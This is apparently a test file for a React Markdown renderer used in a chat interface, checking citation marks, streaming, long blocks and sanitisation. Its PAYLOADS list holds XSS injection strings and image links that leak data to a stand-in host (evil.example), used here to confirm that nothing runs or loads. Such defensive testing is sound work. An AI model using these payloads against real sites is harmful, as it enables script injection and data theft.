import { cleanup, render, screen, waitFor } from "@testing-library/react";
import type ReactMarkdown from "react-markdown";
import type { Options } from "react-markdown";
import { afterEach, describe, expect, it, vi } from "vitest";

import { splitBlocks } from "./blocks.ts";
import { Markdown } from "./Markdown.tsx";
import { withDollarMath } from "./mathText.ts";

const drawn = vi.fn();
const parsed = vi.hoisted(() => vi.fn());

// The real one; it tells what it was given.
vi.mock("react-markdown", async (load) => {
  const { default: Real } = await load<{ readonly default: typeof ReactMarkdown }>();
  return {
    default: (props: Options) => {
      parsed(props.children);
      return <Real {...props} />;
    },
  };
});

function TestMark({ marker }: { readonly marker: number }) {
  drawn(marker);
  return <button type="button">{`mark ${marker}`}</button>;
}

function draw(text: string): HTMLElement {
  return render(<Markdown text={text} streaming={false} Mark={TestMark} />).container;
}

afterEach(cleanup);

const PAYLOADS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "![x](https://evil.example/?q=secret)",
  "![x][r]\n\n[r]: https://evil.example/p.png",
  "[x](javascript:alert(1))",
  "[x](data:text/html,hi)",
  "[x](//evil.example)",
  "[x]( java\nscript:alert(1))",
  "<https://ok.example> <javascript:alert(1)> https://bare.example www.bare.example",
  "[x](https://evil.example '\" onmouseover=alert(1)') [y][r]\n\n[r]: https://evil.example",
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "note[^1]\n\n[^1]: [x](https://evil.example)",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  "[1]: javascript:alert(1)\n\nclaim [1]",
  '<iframe src="https://evil.example"></iframe>',
  "$$\\href{javascript:alert(1)}{x}$$ $$\\includegraphics{https://evil.example/p.png}$$",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
];

function checkHarmless(container: HTMLElement): void {
  const risky = "a,area,link,base,script,img,iframe,object,embed,form,style,video,audio,meta";
  expect(container.querySelectorAll(risky)).toHaveLength(0);
  for (const element of container.querySelectorAll("*")) {
    expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
    expect(element.getAttribute("src")).toBeNull();
    expect(element.getAttribute("href")).toBeNull();
  }
}

describe("Markdown", () => {
  it.each(PAYLOADS)("runs and loads nothing: %s", async (payload) => {
    for (let end = 1; end <= payload.length; end += 1) {
      const container = draw(`before ${payload.slice(0, end)}`);
      checkHarmless(container);
      cleanup();
    }
    const container = draw(`${payload}\n\nafter`);
    await waitFor(() => {
      expect(container.textContent).toContain("after");
    });
    checkHarmless(container);
  });

  it("draws marks in text, and leaves code, links and footnotes alone", () => {
    const container = draw("a [1][2] `x[3]` [4](https://ok.example) **b [5]** [1234]");
    const marks = screen.getAllByRole("button", { name: /^mark/ }).map((node) => node.textContent);
    expect(marks).toEqual(["mark 1", "mark 2", "mark 5"]);
    expect(container.querySelector("code")?.textContent).toBe("x[3]");
    expect(container.querySelector("p > span")?.textContent).toBe("4 (https://ok.example)");
  });

  it("keeps marks when the answer ends with definitions of them", () => {
    const container = draw("claim [1]\n\n[1]: https://ok.example");
    expect(screen.getAllByRole("button", { name: "mark 1" })).toHaveLength(2);
    expect(container.querySelectorAll("a")).toHaveLength(0);
  });

  it.each([
    ["[click](https://evil.example/a?b=c)", "click (https://evil.example/a?b=c)"],
    ["[click](javascript:alert(1))", "click (javascript:alert(1))"],
    ["<https://ok.example>", "https://ok.example"],
    ["see www.ok.example now", "see www.ok.example now"],
    ["<me@ok.example>", "me@ok.example"],
    ["[https://bank.example](https://evil.example)", "https://bank.example (https://evil.example)"],
  ])("spells out where a link leads: %s", (markdown, expected) => {
    expect(draw(markdown).textContent).toBe(expected);
  });

  it("shows the words of a picture instead of the picture", () => {
    expect(draw("![a chart](https://x.example/c.png)").textContent).toBe("a chart");
  });

  it("parses finished blocks once", () => {
    const { rerender } = render(<Markdown text={"one [1]\n\ntwo"} streaming Mark={TestMark} />);
    parsed.mockClear();
    rerender(<Markdown text={"one [1]\n\ntwo three"} streaming Mark={TestMark} />);
    rerender(<Markdown text={"one [1]\n\ntwo three four"} streaming Mark={TestMark} />);
    expect(parsed.mock.calls.flat()).toEqual(["two three", "two three four"]);
  });

  it("draws the marks of the block that grows once", () => {
    const { rerender } = render(<Markdown text="[1][2]" streaming Mark={TestMark} />);
    drawn.mockClear();
    rerender(<Markdown text="[1][2][1]" streaming Mark={TestMark} />);
    rerender(<Markdown text="[1][2][1] and [3]" streaming Mark={TestMark} />);
    expect(drawn.mock.calls.flat()).toEqual([1, 3]);
  });

  it("lets each block read in the direction of its own words, and code from left to right", () => {
    const container = draw("שלום עולם [1]\n\nand then\n\n```\ncode\n```");
    const blocks = [...container.querySelectorAll(".block")];
    expect(blocks.map((block) => block.getAttribute("dir"))).toEqual(["auto", "auto", "auto"]);
    expect(container.querySelector("pre")?.closest("[dir]")?.getAttribute("dir")).toBe("ltr");
  });

  it("shows what is nested too deeply as it was written, with its marks alive", () => {
    const deep = `${"> - ".repeat(12)}end [2]`;
    const container = draw(`before\n${deep}\n\n**after**`);
    expect(container.querySelector(".plain")?.textContent).toBe(deep.replace("[2]", "mark 2"));
    expect(container.querySelector("blockquote")).toBeNull();
    expect(container.querySelector("strong")?.textContent).toBe("after");
  });

  it("shows every word of a paragraph that is too long to be parsed at once", () => {
    const words = Array.from({ length: 1_500 }, (_, index) => `*word${index}*`);
    const container = draw(words.join(" "));
    expect(container.querySelectorAll(".block").length).toBeGreaterThan(5);
    expect(container.textContent.replace(/\s+/g, "")).toBe(words.join("").replaceAll("*", ""));
    expect(container.querySelectorAll("em")).toHaveLength(1_500);
  });

  it("goes on with a long table under the same head, with a long list, and with code as code", () => {
    const rows = Array.from({ length: 120 }, (_, index) => `| row ${index} | ${index} |`).join("\n");
    const table = draw(`| name | value |\n|---|---|\n${rows}`);
    expect(table.querySelectorAll("table").length).toBeGreaterThan(1);
    for (const each of table.querySelectorAll("thead")) expect(each.textContent).toContain("name");
    expect(table.querySelectorAll("tbody tr")).toHaveLength(120);

    const items = Array.from({ length: 300 }, (_, index) => `${index + 1}. item`).join("\n");
    const list = draw(items);
    expect(list.querySelectorAll("li")).toHaveLength(300);
    const starts = [...list.querySelectorAll("ol")].map((each) => each.start);
    expect(starts.length).toBeGreaterThan(1);
    expect(starts).toEqual(starts.toSorted((a, b) => a - b));

    const code = Array.from({ length: 400 }, (_, index) => `   f(${index}) [1]`).join("\n");
    const nested = draw(`1. so:\n\n   \`\`\`js\n${code}\n   \`\`\`\n\nafter`);
    expect(nested.querySelectorAll("pre").length).toBeGreaterThan(1);
    expect(nested.querySelectorAll("pre code").length).toBe(nested.querySelectorAll("pre").length);
    expect(nested.textContent).toContain("f(399) [1]");
    expect(nested.lastElementChild?.lastElementChild?.textContent).toBe("after");
  });

  it("reads a fence as the parser would", () => {
    const container = draw("a\n````js x\n```\nb [1]\n````\nc\n\n```a``` d\n\n  ~~~\n   e\n  ~~~");
    const codes = [...container.querySelectorAll("pre code")];
    expect(codes.map((code) => code.textContent)).toEqual(["```\nb [1]\n", " e\n"]);
    expect(codes[0]?.className).toBe("language-js");
    expect(container.querySelectorAll("p")).toHaveLength(3);
  });

  it("has the class streaming-cursor exactly while it grows", () => {
    const { container, rerender } = render(<Markdown text="a" streaming Mark={TestMark} />);
    expect(container.querySelector(".streaming-cursor")).not.toBeNull();
    rerender(<Markdown text="a" streaming={false} Mark={TestMark} />);
    expect(container.querySelector(".streaming-cursor")).toBeNull();
  });
});

describe("splitBlocks", () => {
  it.each([
    ["one\n\ntwo", 2],
    ["- a\n\n- b\n\n  more\n\nafter", 2],
    ["```\na\n\nb\n```\n\nafter", 2],
    ["~~~~\n```\n\n~~~\n\n~~~~\n\nafter", 2],
    ["$$\na\n\nb\n$$\n\nafter", 2],
    ["\\[\na\n\nb\n\\]\n\nafter", 2],
    ["", 1],
    ["```\nnever closed\n\nx", 1],
  ])("cuts %j into %i and loses nothing", (text, pieces) => {
    const blocks = splitBlocks(text);
    expect(blocks).toHaveLength(pieces);
    expect(blocks.map((block) => block.text).join("")).toBe(text);
  });
});

describe("withDollarMath", () => {
  it("translates both ways of writing maths, outside code", () => {
    expect(withDollarMath(String.raw`a \(x\) b`)).toBe("a $$x$$ b");
    expect(withDollarMath(String.raw`\[ y \]`)).toBe("\n$$\ny\n$$\n");
    expect(withDollarMath("`\\(x\\)`")).toBe("`\\(x\\)`");
    expect(withDollarMath(String.raw`see \[1\]`)).toBe(String.raw`see \[1\]`);
  });
});
